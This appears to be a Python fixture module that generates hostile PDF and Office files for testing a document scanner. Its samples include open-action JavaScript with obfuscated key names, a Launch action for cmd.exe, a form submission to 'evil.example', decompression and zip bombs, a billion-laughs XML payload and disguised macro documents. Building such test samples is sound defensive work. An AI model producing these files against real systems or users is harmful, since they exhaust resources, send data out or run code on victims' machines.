"""Documents of the corpus: PDF, Word, Excel and PowerPoint, and what people have hidden in them."""

import io
import struct
import zipfile
from functools import cache
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name

from . import pictures

OFFICE = "application/vnd.openxmlformats-officedocument."
LINKS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PARTS = {
    "docx": ("word/document.xml", "wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet.main+xml"),
    "pptx": ("ppt/presentation.xml", "presentationml.presentation.main+xml"),
}


def pdf(pages: int = 2, change: Any = None, **saved: Any) -> bytes:
    """A PDF with so many pages; `change` does something to it before it is saved."""
    made = pikepdf.new()
    font = made.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    for number in range(pages):
        words = f"BT /F1 24 Tf 72 700 Td (Page {number + 1} of the report) Tj ET".encode()
        page = made.add_blank_page(page_size=(595, 842))
        page.obj.Contents = made.make_stream(words)
        page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
    if change:
        change(made)
    content = io.BytesIO()
    made.save(content, **saved)
    return content.getvalue()


def script(made: pikepdf.Pdf) -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=pikepdf.String("app.alert(1)"))


def opens_with_script(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = script(made)


def names_a_script(made: pikepdf.Pdf) -> None:
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([pikepdf.String("a"), script(made)])))


def acts_on_a_page(made: pikepdf.Pdf) -> None:
    made.pages[0].obj.AA = Dictionary(O=script(made))


def launches(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = Dictionary(S=Name.Launch, F=pikepdf.String("cmd.exe"))


def submits(made: pikepdf.Pdf) -> None:
    act = Dictionary(S=Name.SubmitForm, F=pikepdf.String("https://evil.example/"))
    note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=act)
    made.pages[0].obj.Annots = Array([made.make_indirect(note)])


def has_xfa(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = Dictionary(XFA=made.make_stream(b"<xdp/>"), Fields=Array([]))


def attaches(made: pikepdf.Pdf) -> None:
    made.attachments["virus.exe"] = pikepdf.AttachedFileSpec(made, b"MZ")


def plays(made: pikepdf.Pdf) -> None:
    note = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]))
    made.pages[0].obj.Annots = Array([note])


def links_to_the_web(made: pikepdf.Pdf) -> None:
    act = Dictionary(S=Name.URI, URI=pikepdf.String("https://id.example/"))
    note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=act)
    made.pages[0].obj.Annots = Array([note])
    made.Root.OpenAction = Array([made.pages[0].obj, Name.Fit])


def tells_of_its_author(made: pikepdf.Pdf) -> None:
    made.docinfo["/Author"] = "SecretPerson"
    made.Root.Metadata = made.make_stream(pictures.XMP)
    photo = made.make_stream(pictures.with_gps())
    photo.stream_dict = Dictionary(
        Type=Name.XObject, Subtype=Name.Image, Width=640, Height=480, ColorSpace=Name.DeviceRGB,
        BitsPerComponent=8, Filter=Name.DCTDecode,
    )  # fmt: skip
    made.pages[0].obj.Resources.XObject = Dictionary(Im1=photo)


def hidden_name() -> bytes:
    """A script whose key is written in another way: /J#53 is /JS."""
    plain = pdf(change=opens_with_script, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return plain.replace(b"/JS ", b"/J#53 ").replace(b"/JavaScript", b"/Java#53cript")


def tree_of_a_billion_pages() -> bytes:
    """Ten kids, each of ten kids, nine times: a kilobyte that counts to a billion."""
    lines = [b"%PDF-1.4"]
    lines.append(b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj")
    for number in range(2, 11):
        kids = (f"{number + 1} 0 R " * 10).encode()
        lines.append(b"%d 0 obj<</Type/Pages/Count 9/Kids[%s]>>endobj" % (number, kids))
    lines.append(b"11 0 obj<</Type/Page/MediaBox[0 0 9 9]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF")
    return b"\n".join(lines)


@cache
def bomb_of_objects() -> bytes:
    """Two million empty objects, packed into one stream: some kilobytes on the disk."""

    def fill(made: pikepdf.Pdf) -> None:
        made.Root.Things = Array([made.make_indirect(Dictionary()) for _n in range(150_000)])

    return pdf(1, fill, object_stream_mode=pikepdf.ObjectStreamMode.generate)


@cache
def bomb_in_a_stream_of_objects() -> bytes:
    """One stream of objects that unpacks to 400 MB."""
    import zlib

    packer = zlib.compressobj(9)
    body = packer.compress(b"12 0 <</Type/Catalog>>")
    piece = b" " * 1_000_000
    body += b"".join(packer.compress(piece) for _n in range(400)) + packer.flush()
    head = b"%PDF-1.5\n"
    first = b"10 0 obj<</Type/ObjStm/N 1/First 5/Filter/FlateDecode/Length %d>>stream\n" % len(body)
    table_at = len(head) + len(first) + len(body) + len(b"\nendstream\nendobj\n")
    rows = b"".join(
        struct.pack(">BIB", *row)
        for row in [(0, 0, 0)] * 10 + [(1, len(head), 0), (1, table_at, 0), (2, 10, 0)]
    )
    table = b"11 0 obj<</Type/XRef/Size 13/W[1 4 1]/Root 12 0 R/Length %d>>stream\n" % len(rows)
    return (
        head + first + body + b"\nendstream\nendobj\n" + table + rows
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % table_at
    )  # fmt: skip


def office(kind: str = "docx", main: str = "", extra: dict[str, Any] | None = None, links: str = "") -> bytes:
    """A document with its main part, further parts, and links of the main part."""
    name, media_type = PARTS[kind]
    types = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Default Extension="rels" ContentType="application/xml"/><Override PartName="/{name}" '
        f'ContentType="{main or OFFICE + media_type}"/></Types>'
    )
    frame = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    folder, file = name.rsplit("/", 1)
    parts: dict[str, Any] = {
        "[Content_Types].xml": types,
        "_rels/.rels": f'{frame}<Relationship Id="r1" Type="{LINKS}/officeDocument" Target="{name}"/></Relationships>',
        name: "<document>Text</document>",
        f"{folder}/_rels/{file}.rels": f"{frame}{links}</Relationships>",
    }
    return archive(parts | (extra or {}))


def archive(parts: dict[str, Any]) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, text in parts.items():
            packed.writestr(name, text)
    return content.getvalue()


def link(kind: str, target: str, outside: bool = True) -> str:
    mode = ' TargetMode="External"' if outside else ""
    return f'<Relationship Id="r9" Type="{LINKS}/{kind}" Target="{target}"{mode}/>'


def docm_as_docx() -> bytes:
    macros = "application/vnd.ms-word.document.macroEnabled.main+xml"
    return office(main=macros, extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 500})


def hidden_macros() -> bytes:
    return office(extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 500})


def billion_laughs() -> bytes:
    lols = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "lol">{lols}]><x>&l9;</x>'.encode()


def sheet(corner: str) -> dict[str, str]:
    return {"xl/worksheets/sheet1.xml": f'<worksheet><dimension ref="A1:{corner}"/><sheetData/></worksheet>'}


@cache
def zip_bomb() -> bytes:
    return office(extra={"word/media/blank.bin": b"\0" * 60_000_000})


def lying_entry() -> bytes:
    """The list says ten bytes, the entry holds a megabyte."""
    parts = office(extra={"word/media/a.bin": b"\0" * 1_000_000})
    real = struct.pack("<I", 1_000_000)
    return parts.replace(real, struct.pack("<I", 10))


def encrypted_entry() -> bytes:
    """The flag of a password on every entry."""
    content = bytearray(office())
    at = -1
    while (at := content.find(b"PK\1\2", at + 1)) >= 0:
        content[at + 8] |= 1
    return bytes(content)
